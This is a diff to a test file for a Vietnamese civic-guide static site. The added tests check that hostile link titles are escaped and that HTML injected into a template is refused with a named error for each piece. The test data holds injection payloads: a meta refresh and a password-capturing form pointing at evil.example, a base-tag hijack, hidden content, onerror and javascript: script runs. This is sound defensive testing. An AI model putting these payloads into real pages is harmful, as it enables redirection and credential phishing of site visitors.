@@ -3,6 +3,7 @@ import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import sharp from 'sharp';
 import { expect, test } from 'vitest';
+import { tagsOf } from '../html.ts';
 import { copyOfProject, runNode } from '../../tests/support/project-copy.ts';
 
 const guide = 'content/guides/dang-ky-khai-sinh';
@@ -50,7 +51,12 @@ test('a link that leads nowhere leaves the last good site; without it a photogra
   const consent = 'consent:\n  givenOn: 2026-01-02\n  scope: [text]\n  until: 2026-01-31';
   const profile = join(root, 'content/profiles/nguyen-van-a/index.md');
   writeFileSync(profile, readFileSync(profile, 'utf8').replace('sample: true', consent));
-  write('![Bà con ở quầy](anh.jpg)\n\nNhư [chị A](/guong/nguyen-van-a/) đã làm.');
+  const hostile = 'x><meta http-equiv=refresh content=0;url=https://evil.example/><style>main{display:none}</style>';
+  write(
+    '![Bà con ở quầy](anh.jpg)\n\nNhư [chị A](/guong/nguyen-van-a/) đã làm.\n\n' +
+      `Xem [bài *này*](/guong/nguyen-van-a/ '${hostile}') và [kia](/guong/nguyen-van-a/#a "giá > 5.000 đ").\n\n` +
+      `Ở [danh sách](/huong-dan/ "giá > 5.000 đ") và [đây](/huong-dan/ '${hostile}').`,
+  );
   const good = await runNode(root, ['src/commands/build.ts']);
   expect(good.code, good.output).toBe(0);
   // Pages that lead on from the addresses of one entry are the same text, and are compressed at the same time.
@@ -65,7 +71,12 @@ test('a link that leads nowhere leaves the last good site; without it a photogra
   const tasks = readFileSync(join(root, 'dist/bien-tap/viec-can-lam.csv'), 'utf8');
   expect(tasks).not.toMatch(/nguyen-van-a|Nguyễn Văn A/);
   const named = readFileSync(join(root, 'dist/huong-dan/dang-ky-khai-sinh/index.html'), 'utf8');
-  expect(named).toContain('Như chị A đã làm.');
+  expect(named).toContain('<p>Như chị A đã làm.</p>');
+  expect(named).toContain('<p>Xem bài <em>này</em> và kia.</p>');
+  // Titles of links that stay are texts, whatever is in them.
+  const titles = tagsOf(named).flatMap(({ name, attributes }) => (name === 'a' ? [attributes.get('title')] : []));
+  expect(titles).toEqual(expect.arrayContaining(['giá > 5.000 đ', hostile]));
+  expect(tagsOf(named).filter(({ attributes }) => attributes.get('http-equiv') === 'refresh')).toEqual([]);
   expect(good.output).toContain('“/guong/nguyen-van-a/” dẫn tới bài đang không hiện');
 
   write('[Xem](/huong-dan/dang-ky-khai-tu/) và [phần này](/don-vi/phuong-tan-phu/#khong-co)');
@@ -75,4 +86,52 @@ test('a link that leads nowhere leaves the last good site; without it a photogra
   expect(bad.output).toContain(`${guide}/index.md · liên kết “/huong-dan/dang-ky-khai-tu/” không dẫn tới trang nào`);
   expect(bad.output).toMatch(/“\/don-vi\/phuong-tan-phu\/#khong-co” dẫn tới một phần không có\. Trang ấy có: #/);
   expect(existsSync(join(root, 'dist/mark'))).toBe(true);
+});
+
+test('HTML that gets into a page through a hole in a template is refused, each piece by name', async () => {
+  const root = copyOfProject();
+  const hole = join(root, 'src/components/guide/GuideArticle.astro');
+  const inside = [
+    '<meta http-equiv=refresh content=0;url=https://evil.example/>',
+    '<form action=https://evil.example/><input type=password></form>',
+    '<base href=https://evil.example/>',
+    '<style>main{display:none}</style>',
+    '<a href=/ style=position:fixed;inset:0>a</a>',
+    '<iframe srcdoc=a></iframe><object data=/></object><embed src=/>',
+    '<link rel=stylesheet href=/favicon.svg>',
+    '<img src=/favicon.svg alt onerror=alert(1)>',
+    '<a href=javascript:alert(1)>a</a>',
+    '<script src=/favicon.svg></script><script>alert(1)</script>',
+    '<video src=/favicon.svg></video>',
+  ];
+  const template = readFileSync(hole, 'utf8');
+  expect(template).toContain('<slot />');
+  writeFileSync(
+    hole,
+    template.replace('<slot />', `<slot /><Fragment set:html={${JSON.stringify(inside.join(''))}} />`),
+  );
+  const { code, output } = await runNode(root, astroBuild);
+  expect(code).not.toBe(0);
+  const ofGuide = output
+    .split('\n')
+    .filter((line) => line.includes(`${guide}/index.md · `))
+    .join('\n');
+  for (const message of [
+    'tự đưa người đọc đi nơi khác (“0;url=https://evil.example/”)',
+    'biểu mẫu không thuộc trang này (gửi tới “https://evil.example/”)',
+    'ô nhập loại “password”',
+    'thẻ <base>',
+    'kiểu trình bày không thuộc trang này (“main{display:none}…”)',
+    'thuộc tính “style” (“position:fixed;inset:0”)',
+    'khung nhúng <iframe>',
+    'khung nhúng <object>',
+    'khung nhúng <embed>',
+    'thẻ <link> không thuộc trang này (/favicon.svg)',
+    'mã chạy trong thuộc tính “onerror”',
+    'địa chỉ không an toàn “javascript:alert(1)”',
+    'mã chạy tải từ nơi khác (/favicon.svg)',
+    'mã chạy không thuộc trang này (“alert(1)…”)',
+    'thẻ <video>',
+  ])
+    expect(ofGuide).toContain(message);
 });
